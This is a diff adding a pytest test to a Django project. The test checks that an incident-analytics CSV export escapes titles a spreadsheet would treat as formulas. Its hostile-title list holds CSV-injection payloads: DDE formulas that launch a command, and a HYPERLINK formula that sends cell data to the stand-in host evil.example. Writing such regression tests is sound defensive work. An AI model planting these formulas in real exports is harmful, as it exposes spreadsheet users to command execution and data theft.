@@ -1,3 +1,6 @@
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
@@ -82,3 +85,19 @@ def test_it_exports_analytics_as_csv(hand_built, people, client_for):
     response = client_for(people["viewer"]).get(reverse("reports:analytics-csv") + "?table=incidents")
     rows = response.content.decode("utf-8-sig").splitlines()
     assert rows[1].startswith(f"{hand_built.pk},S7 电池冒烟 / S7 battery smoke,2,2026-Q4,resolved,")
+
+
+HOSTILE_TITLES = ["=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?"&A1)',
+                  "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
+
+
+def test_it_exports_no_title_a_spreadsheet_would_run_as_a_formula(hand_built, people, client_for):
+    from tests.factories import IncidentFactory
+
+    for title in HOSTILE_TITLES:
+        IncidentFactory(organization=hand_built.organization, title=title, first_public_signal_at=hand_built.
+                        first_public_signal_at, status="resolved")
+    response = client_for(people["viewer"]).get(reverse("reports:analytics-csv") + "?table=incidents")
+    titles = [row[1] for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))][1:]
+
+    assert sorted(t for t in titles if t != hand_built.title) == sorted("'" + t for t in HOSTILE_TITLES)
